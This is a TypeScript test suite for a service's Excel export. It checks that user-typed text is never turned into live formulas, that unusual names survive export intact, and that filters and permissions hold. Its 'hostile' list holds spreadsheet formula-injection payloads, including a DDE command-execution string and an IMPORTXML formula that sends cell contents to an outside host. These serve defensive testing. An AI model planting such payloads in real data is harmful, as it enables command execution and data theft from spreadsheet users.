import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { strFromU8, unzipSync } from 'fflate';
import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportName } from '../../../src/schema/api/exportNames';
import { full, keep, seed } from '../promise';
import { randomFrom } from '../random';
import { openCounter } from './helpers/counter';
import type { Counter } from './helpers/counter';

const run = promisify(execFile);
const office = [
  '/usr/bin/soffice',
  '/usr/bin/libreoffice',
  '/Applications/LibreOffice.app/Contents/MacOS/soffice',
].find(existsSync);

/** Texts that a spreadsheet would take for formulas, were they not typed. */
const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("http://example.test","Facture")',
  '=IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
  '\uFF1D2+2',
  '"=1+1',
  "'=1+1",
  '=1+1;"x',
  '<f>1+1</f>',
  ']]><f>1+1</f>',
  '_x003D_1+1',
];

/** The lists in which somebody reads them. */
const holding = new Set(['clients', 'services', 'contract-services', 'history-logs']);

let counter: Counter;
beforeAll(async () => {
  counter = await openCounter();
});
afterAll(() => counter?.close());

async function excel(operation: string, args = ''): Promise<Uint8Array> {
  const answer = await counter.api.send<Record<string, string>>(counter.token, `{ ${operation}${args} }`);
  if (!answer.data) throw new Error(JSON.stringify(answer.errors));
  return Buffer.from(answer.data[operation] ?? '', 'base64');
}

/** Names that a writer of spreadsheets may take for its own, and signs that XML does not hold as they are. */
const literally = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '_x000D_',
  '_x000d_ fin',
  '_x005F_x000D_',
  'a_x0041_b_x_xx_',
  'trop\uFFFEloin',
  'et\uFFFF',
  'in\uFFFDdit',
  'nul\uFDD0lettre',
  '&amp; <b> ]]> &#13;',
  '👩‍👧 𝕂 ‏',
  `sp${' '.repeat(3)}aces`,
];

/** What XML 1.0 does not hold in a text, and the line end that its parsers change. */
const noXml = /[^\t\n\u0020-\u{D7FF}\u{E000}-\u{FFFD}\u{10000}-\u{10FFFF}]|&(?!(?:amp|lt|gt|quot|apos);)/u;
const entities: Readonly<Record<string, string>> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };

/** The texts of a sheet, by the letter of XML and of ECMA-376 (ST_Xstring). */
function textsOf(file: Uint8Array): string[] {
  const { sheet, strings } = sheetOf(file);
  const shared = [...strings.matchAll(/<si><t(?: xml:space="preserve")?>([^<]*)<\/t><\/si>/g)].map(
    ([, xml = '']) => {
      if (noXml.test(xml)) throw new Error(`no XML: ${JSON.stringify(xml)}`);
      return xml
        .replace(/&(\w+);/g, (_, name: string) => entities[name] ?? '')
        .replace(/_x([\dA-Fa-f]{4})_/g, (_, code: string) => String.fromCharCode(parseInt(code, 16)));
    },
  );
  return [...sheet.matchAll(/<c [^>]*t="s"[^>]*><v>([^<]*)<\/v>/g)].map(
    ([, index]) => shared[Number(index)] ?? `no text ${index}`,
  );
}

const sheetOf = (file: Uint8Array) => {
  const parts = unzipSync(file);
  const sheet = Object.keys(parts).find(name => /^xl\/worksheets\/sheet1\.xml$/.test(name)) ?? '';
  return {
    sheet: strFromU8(parts[sheet]!),
    strings: strFromU8(parts['xl/sharedStrings.xml'] ?? new Uint8Array()),
  };
};

/** A file as LibreOffice understands it. */
async function inOffice(file: Uint8Array): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'karhba-office-'));
  try {
    await writeFile(join(folder, 'list.xlsx'), file);
    await run(office ?? '', [
      '--headless',
      `-env:UserInstallation=file://${folder}/profile`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      join(folder, 'list.xlsx'),
    ]);
    return await readFile(join(folder, 'list.fods'), 'utf8');
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

const formulasInOffice = async (file: Uint8Array) =>
  (await inOffice(file)).split('table:formula=').length - 1;

/** The texts that LibreOffice does not find in a file; those of signs and spaces that its own format writes otherwise are not asked. */
async function textsInOffice(file: Uint8Array, texts: readonly string[]): Promise<string[]> {
  const found = await inOffice(file);
  return texts.filter(text => /^[\w ]+$/.test(text) && !/ {2}/.test(text) && !found.includes(`>${text}<`));
}

describe('un export ne contient pas de formule venue des données', () => {
  it('keeps as text whatever a person may have typed', { timeout: full ? 1_800_000 : 180_000 }, async () => {
    const { api, token } = counter;
    for (const [at, text] of hostile.entries()) {
      const made = await api.send(
        token,
        `mutation ($t: Input, $n: Input) { createClient(clientType: "PHYSICAL", clientKind: "PASSAGE", phone: "20 123 456", address: $t, otherDetails: { firstName: $t, lastName: $t, CIN: $n }) { id } createService(name: $t) { id } createContractService(libelle: $t, address: $t, contractDetails: [{ service: "1", amount: "10" }]) { id } }`,
        { t: text, n: String(10_000_000 + at) },
      );
      expect(made.errors, text).toBeUndefined();
    }
    let cells = 0;
    let formulas = 0;
    const random = randomFrom(seed);
    for (const resource of api.engine.resources.all) {
      const list = resource.operations?.list;
      if (!list || !resource.list) continue;
      // One writer makes them all: `npm test` asks it for the lists that hold these texts, and a few others.
      if (!full && !holding.has(resource.name) && random.below(10) > 0) continue;
      const file = await excel(exportName(list, 'Excel'));
      const { sheet, strings } = sheetOf(file);
      cells += sheet.split('<c ').length - 1;
      formulas += sheet.split(/<f[ >]/).length - 1;
      if (list === 'Services')
        for (const text of ['=1+1', '@SUM(1)']) expect(sheet + strings).toContain(`>${text}<`);
      if (full) formulas += office ? await formulasInOffice(file) : Number.NaN;
    }
    keep('P-33', {
      n: cells,
      of: full ? 'formulas, by the file and by LibreOffice' : 'formulas',
      figure: formulas,
      ideal: 0,
    });
  });

  it('keeps each name as it is, whatever it is to a program that writes or reads files', async () => {
    const { api, token } = counter;
    const stored: string[] = [];
    for (const text of literally) {
      const { data, errors } = await api.send<{ createService: { name: string } }>(
        token,
        'mutation ($t: Input) { createService(name: $t) { name } }',
        { t: text },
      );
      expect(errors, text).toBeUndefined();
      stored.push(data?.createService.name ?? '');
    }
    const file = await excel('servicesToExcel');
    const [ours, theirs] = [textsOf(file), (await readSheet(Buffer.from(file))).flat().map(String)];
    const lost = stored.filter(name => !ours.includes(name) || !theirs.includes(name));
    expect(lost).toEqual([]);
    expect(ours.filter(text => text.includes('[object') || text.startsWith('no text'))).toEqual([]);
    // Not every program reads an escape where none is needed.
    expect(sheetOf(file).strings).toContain('>constructor<');
    if (full && office) expect(await textsInOffice(file, stored)).toEqual([]);
    keep('P-33', { n: stored.length, of: 'names that a file says otherwise', figure: lost.length, ideal: 0 });
  });

  it('types amounts, dates and numbers, follows the filters, and asks the right of the list', async () => {
    const { api } = counter;
    const contract = await counter.contract(['1234.567']);
    await counter.invoice(contract);
    const { sheet } = sheetOf(await excel('receiptsToExcel', '(status: "UNPAID")'));
    expect(sheet).toMatch(/<v>1234\.567<\/v>/);
    const none = sheetOf(await excel('receiptsToExcel', '(status: "PAID")'));
    expect(none.sheet.split('<row ').length - 1).toBe(1);
    const limited = await api.signIn('ADMIN', ['vehicles']);
    const refused = await api.send(limited.token, '{ receiptsToExcel }');
    expect(refused.errors?.[0]?.extensions.code).toBe('FORBIDDEN');
    expect((await api.send(limited.token, '{ vehiclesToExcel }')).errors).toBeUndefined();
    expect((await api.send(null, '{ vehiclesToExcel }')).errors?.[0]?.extensions.code).toBe(
      'UNAUTHENTICATED',
    );
  });
});
